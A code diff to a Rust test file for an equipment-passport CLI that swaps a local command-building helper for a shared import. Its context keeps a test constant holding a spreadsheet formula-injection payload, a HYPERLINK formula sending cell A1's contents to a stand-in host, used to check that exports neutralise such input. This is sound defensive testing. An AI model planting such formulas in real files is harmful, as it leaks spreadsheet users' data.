@@ -6,7 +6,6 @@ use crate::support::{add_child, api, date};
 use assert_cmd::Command;
 use equipment_passport::model::dfg::*;
 use std::collections::HashMap;
-use std::path::Path;
 
 /// What people might type into a case, each starting with a character OWASP lists.
 const COUNCIL: &str = "=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"Council\")";
@@ -91,13 +90,7 @@ fn text_typed_into_a_case_that_starts_like_a_formula_is_exported_quoted_with_a_s
     assert_eq!(cells["withdrawn"], "2026-11-02");
 }
 
-fn passport(dir: &Path) -> Command {
-    let mut cmd = Command::cargo_bin("passport").unwrap();
-    cmd.arg("--data-dir")
-        .arg(dir)
-        .env("PASSPORT_PASSPHRASE", "blue kettle on Tuesday");
-    cmd
-}
+use crate::support::cli::passport;
 
 fn stdout_of(cmd: &mut Command) -> String {
     let out = cmd.assert().success().get_output().stdout.clone();
